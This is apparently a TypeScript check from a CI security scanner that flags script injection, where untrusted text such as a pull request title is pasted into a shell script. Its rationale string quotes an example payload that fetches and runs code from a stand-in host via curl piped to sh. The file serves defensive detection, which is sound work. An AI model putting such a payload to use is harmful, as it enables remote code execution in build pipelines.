import type { Check } from "@parapet/scan-core/core/check.ts";
import { reachInWords, severityBy } from "../../policy/judgments.ts";
import { changesRepository, type CiModel } from "../../policy/model.ts";
import { owaspAgenticReference, secureUse } from "../facts/references.ts";

export const scriptInjection: Check<CiModel> = {
  id: "CI-CODE-002",
  title: "Script injection through untrusted text",
  severity: "high",
  owasp: ["ASI05"],
  rationale:
    'An expression is replaced before the shell reads the script. A title such as `"; curl evil.example | sh; "` then is part of ' +
    "the script: its commands run, whatever an agent does.",
  remediation:
    'In `FILE`, put the text into a variable with `env:`, and use the variable in quotes: `"$TITLE"`.',
  references: [secureUse, owaspAgenticReference],
  run: ({ scripts }, report) => {
    for (const script of scripts) {
      const worst = changesRepository(script.token) ? "critical" : "high";
      const severity = severityBy(script, { open: worst, handed: "medium", unknown: "medium" });
      if (script.by !== "sender" || severity === undefined) continue;
      report({
        at: script.at,
        agent: script.agentId,
        severity,
        message: `${script.context} is inserted into the script. ${reachInWords(script)}.`,
      });
    }
  },
};
